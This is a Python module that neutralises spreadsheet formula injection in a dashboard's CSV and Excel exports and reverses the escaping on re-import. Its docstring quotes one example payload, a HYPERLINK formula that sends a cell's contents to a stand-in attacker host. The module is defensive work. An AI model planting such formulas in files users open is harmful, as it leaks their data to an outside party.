"""Text a spreadsheet would run as a formula (CSV/formula injection), made harmless in every file
the dashboard writes, and restored when the importer reads its own export back.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is executed by
Excel and LibreOffice when the file is opened (``=HYPERLINK("http://evil.example/?"&A1)`` sends
the neighbouring cell away). Any text stored from an upload may start so, so every CSV and Excel
file written from stored text (page downloads, ``python -m data_access export`` and ``report``)
prefixes such text with an apostrophe, the spreadsheet's own "this is text" mark. Numbers are never
touched (a negative amount stays ``-5``).

The importer takes the apostrophe off again when, and only when, it stands before one of those
characters (``restore``), so ``export`` then ``import`` still reproduces the database exactly.
"""

from __future__ import annotations

import re

import pandas as pd

_FORMULA_START = re.compile(r"^[=+\-@\t\r]")


def neutralise(text: str) -> str:
    """``=SUM(A1)`` -> ``'=SUM(A1)``; other text unchanged."""
    return f"'{text}" if _FORMULA_START.match(text) else text


def restore(text: str) -> str:
    """The inverse of :func:`neutralise`: ``'=SUM(A1)`` -> ``=SUM(A1)``; other text unchanged."""
    return text[1:] if text.startswith("'") and _FORMULA_START.match(text[1:]) else text


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells are neutralised (number columns untouched)."""
    out = df.copy()
    for column in out.columns:
        series = out[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series):
            out[column] = series.map(lambda v: neutralise(v) if isinstance(v, str) else v).astype(object)
    return out
